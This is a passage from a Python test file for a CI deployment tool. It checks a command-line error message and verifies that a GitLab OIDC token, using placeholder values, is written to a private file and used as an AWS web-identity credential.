        cli.main(["oidc", "bootstrap", "-e", "qa", "--project-path", "nogroup", "--bucket", BUCKET])
        == 2
    )
    assert capsys.readouterr().err == (
        "error: --project-path must be <group>/<project>; got 'nogroup'\n"
    )


def test_the_id_token_becomes_the_web_identity(tmp_path):
    from carcierge_pipeline import oidc
    from carcierge_pipeline.terraform import has_aws_credentials

    environ = {
        "HOME": str(tmp_path),
        "AWS_ROLE_ARN": "arn:aws:iam::111111111111:role/qa-carcierge-ci-deploy",
        "GITLAB_OIDC_TOKEN": "eyJ.token.sig",
        "CI_PROJECT_ID": "42",
        "CI_JOB_ID": "7",
    }
    assert not has_aws_credentials(environ)
    assert oidc.use_id_token(environ)
    token_file = environ["AWS_WEB_IDENTITY_TOKEN_FILE"]
    assert Path(token_file).read_text() == "eyJ.token.sig"
    assert oct(os.stat(token_file).st_mode & 0o777) == "0o600"
    assert environ["AWS_ROLE_SESSION_NAME"] == "gitlab-42-7"
    assert has_aws_credentials(environ)
    assert oidc.describe(environ) == (
        "GitLab OIDC, role arn:aws:iam::111111111111:role/qa-carcierge-ci-deploy"
    )
    # Without a role there is nothing to assume: the token alone is not a credential.
    assert not oidc.use_id_token({"GITLAB_OIDC_TOKEN": "x"})
